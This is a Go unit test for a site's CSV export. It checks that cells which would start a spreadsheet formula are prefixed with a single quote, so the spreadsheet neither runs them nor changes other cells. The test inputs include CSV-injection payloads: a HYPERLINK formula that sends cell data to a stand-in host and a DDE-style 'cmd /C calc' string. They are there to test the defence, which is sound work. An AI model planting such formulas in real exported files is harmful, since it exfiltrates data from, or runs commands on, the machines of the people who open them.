package site

import (
	"encoding/csv"
	"strings"
	"testing"
)

// TestCSVFormulaCells: what a spreadsheet reads from each cell. A cell that would start a
// formula reads as the same text behind a single quote; every other cell reads unchanged.
func TestCSVFormulaCells(t *testing.T) {
	tests := []struct {
		cell, want string
	}{
		{`=HYPERLINK("http://malo.cl/?d="&A1,"Ver decreto")`, `'=HYPERLINK("http://malo.cl/?d="&A1,"Ver decreto")`},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"+56 9 1234 5678", "'+56 9 1234 5678"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"APRUEBA PROCEDIMIENTO = NUEVO", "APRUEBA PROCEDIMIENTO = NUEVO"},
		{"Decreto alcaldicio", "Decreto alcaldicio"},
		{`Dice "hola", y sigue`, `Dice "hola", y sigue`},
		{"dos\nlíneas", "dos\nlíneas"},
		{" espacio", " espacio"},
		{"", ""},
	}
	rows := [][]string{{"celda", "fin"}}
	for _, tt := range tests {
		rows = append(rows, []string{tt.cell, "fin"})
	}
	file := csvFile(rows)
	got, err := csv.NewReader(strings.NewReader(string(file))).ReadAll()
	if err != nil {
		t.Fatalf("the file is not CSV: %v\n%s", err, file)
	}
	if len(got) != len(rows) {
		t.Fatalf("%d rows read, want %d:\n%s", len(got), len(rows), file)
	}
	for i, tt := range tests {
		row := got[i+1]
		if len(row) != 2 || row[0] != tt.want || row[1] != "fin" {
			t.Errorf("cell %q reads as %q, want [%q \"fin\"]", tt.cell, row, tt.want)
		}
		neutralised := strings.HasPrefix(tt.want, "'") && !strings.HasPrefix(tt.cell, "'")
		if neutralised && !strings.Contains(string(file), `"'`+strings.ReplaceAll(tt.cell, `"`, `""`)+`"`) {
			t.Errorf("the neutralised cell %q is not quoted in the file:\n%s", tt.cell, file)
		}
	}
}
